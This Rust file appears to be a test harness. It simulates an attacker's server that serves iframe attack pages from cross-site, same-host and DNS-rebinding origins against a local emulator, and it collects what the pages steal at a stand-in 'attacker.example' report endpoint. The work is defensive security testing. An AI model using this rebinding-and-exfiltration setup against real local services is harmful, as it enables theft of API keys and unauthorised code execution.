//! The attacker's own server: it gives out the page under several names, leads one of them to the
//! emulator, and takes what the pages report.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::thread;
use std::time::Duration;

use keywheel::clock::Stopwatch;
use serde_json::{Value, json};

const PAGE: &str = include_str!("attack.html");

/// A server that runs until its process ends.
pub(super) struct Attacker {
    port: u16,
    reports: Receiver<Value>,
    folder: tempfile::TempDir,
}

/// Where the page is opened.
#[derive(Clone, Copy)]
enum Place {
    /// Another site, as far as the browser knows.
    Abroad,
    /// Another port of the same machine.
    Beside,
    /// A name that leads to the emulator once the page is there.
    Rebound,
}

impl Attacker {
    /// How many pages report, each once.
    pub(super) const PAGES: usize = 3;

    pub(super) fn start(emulator: &str, key: &str, label: &str) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let (tell, reports) = channel();
        let site = Site {
            port,
            emulator: emulator.to_owned(),
            known: json!({
                "key": key, "label": label,
                "archive": super::archive(&folder.path().join("ran")),
            }),
            tell,
        };
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let site = site.clone();
                // A browser that goes away is no matter.
                thread::spawn(move || site.answer(stream).ok());
            }
        });
        Self {
            port,
            reports,
            folder,
        }
    }

    /// The page that opens all others.
    pub(super) fn url(&self) -> String {
        format!("http://attacker.example:{}/", self.port)
    }

    pub(super) fn address(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    /// Waits for so many pages, and a little for what comes late.
    pub(super) fn reports(&self, pages: usize, patience: Duration) -> Vec<Value> {
        let watch = Stopwatch::start();
        let mut reports = Vec::new();
        // A script that was stored and runs reports for itself.
        let is_of_page = |report: &&Value| report.as_array().is_some_and(|it| it.len() > 1);
        while reports.iter().filter(is_of_page).count() < pages {
            let left = patience.saturating_sub(Duration::from_secs_f64(watch.seconds()));
            let report = self.reports.recv_timeout(left);
            reports.push(report.unwrap_or_else(|_| panic!("no more pages report: {reports:#?}")));
        }
        while let Ok(report) = self.reports.recv_timeout(Duration::from_secs(1)) {
            reports.push(report);
        }
        reports
    }

    /// Has a function run that a page has made?
    pub(super) fn has_run_code(&self) -> bool {
        self.folder.path().join("ran").exists()
    }
}

/// What the server answers from.
#[derive(Clone)]
struct Site {
    port: u16,
    emulator: String,
    known: Value,
    tell: Sender<Value>,
}

impl Site {
    fn answer(&self, mut stream: TcpStream) -> std::io::Result<()> {
        let (head, mut body) = read_head(&mut stream)?;
        let path = head.split(' ').nth(1).unwrap_or_default();
        let is_rebound = head
            .to_ascii_lowercase()
            .contains("\r\nhost: rebound.example");
        match path {
            _ if is_rebound && path != "/rebound" => {
                self.lead_on(stream, &[head.as_bytes(), &body].concat())
            }
            "/" => write_page(&mut stream, &self.opener()),
            "/abroad" => write_page(&mut stream, &self.page(Place::Abroad)),
            "/beside" => write_page(&mut stream, &self.page(Place::Beside)),
            "/rebound" => write_page(&mut stream, &self.page(Place::Rebound)),
            "/report" => {
                let length = content_length(&head);
                while body.len() < length {
                    let mut more = [0; 4096];
                    let read = stream.read(&mut more)?;
                    if read == 0 {
                        return Ok(());
                    }
                    body.extend_from_slice(&more[..read]);
                }
                if let Ok(report) = serde_json::from_slice(&body) {
                    // The test may have seen enough.
                    let _ = self.tell.send(report);
                }
                write_page(&mut stream, "")
            }
            _ => Ok(()),
        }
    }

    /// The address of the name has changed: it is the emulator's now.
    fn lead_on(&self, stream: TcpStream, sent: &[u8]) -> std::io::Result<()> {
        let mut there = TcpStream::connect(self.emulator.trim_start_matches("http://"))?;
        there.write_all(sent)?;
        let (mut from, mut to) = (there.try_clone()?, stream.try_clone()?);
        thread::spawn(move || {
            // Either side may break off.
            let _ = std::io::copy(&mut from, &mut to);
            let _ = to.shutdown(Shutdown::Both);
        });
        let mut stream = stream;
        std::io::copy(&mut stream, &mut there)?;
        there.shutdown(Shutdown::Write)
    }

    fn opener(&self) -> String {
        let port = self.port;
        let places = ["attacker.example", "localhost", "rebound.example"]
            .into_iter()
            .zip(["abroad", "beside", "rebound"]);
        let frames = places
            .map(|(host, path)| format!("<iframe src='http://{host}:{port}/{path}'></iframe>"));
        frames.collect()
    }

    fn page(&self, place: Place) -> String {
        let port = self.port;
        let report = format!("http://attacker.example:{port}/report");
        let emulator = match place {
            Place::Rebound => format!("http://rebound.example:{port}"),
            Place::Abroad | Place::Beside => self.emulator.clone(),
        };
        let mut known = self.known.clone();
        // Only under its own name does an API take whoever has a key.
        if !matches!(place, Place::Rebound) {
            known["key"] = Value::Null;
        }
        known["emulator"] = emulator.into();
        known["report"] = report.clone().into();
        PAGE.replace("__KNOWN__", &known.to_string())
            .replace("__OWN_REPORT__", &report)
    }
}

/// The head of a request, and what was read of the body.
fn read_head(stream: &mut TcpStream) -> std::io::Result<(String, Vec<u8>)> {
    let mut bytes = Vec::new();
    loop {
        let end = bytes.windows(4).position(|it| it == b"\r\n\r\n");
        if let Some(end) = end {
            let body = bytes.split_off(end + 4);
            return Ok((String::from_utf8_lossy(&bytes).into_owned(), body));
        }
        let mut more = [0; 4096];
        let read = stream.read(&mut more)?;
        if read == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        bytes.extend_from_slice(&more[..read]);
    }
}

fn content_length(head: &str) -> usize {
    let lines = head.lines().map(str::to_ascii_lowercase);
    let lengths = lines.filter_map(|line| {
        line.strip_prefix("content-length:")?
            .trim()
            .parse::<usize>()
            .ok()
    });
    lengths.sum()
}

fn write_page(stream: &mut TcpStream, text: &str) -> std::io::Result<()> {
    write!(
        stream,
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\naccess-control-allow-origin: *\r\n\
         content-length: {}\r\nconnection: close\r\n\r\n{text}",
        text.len()
    )
}
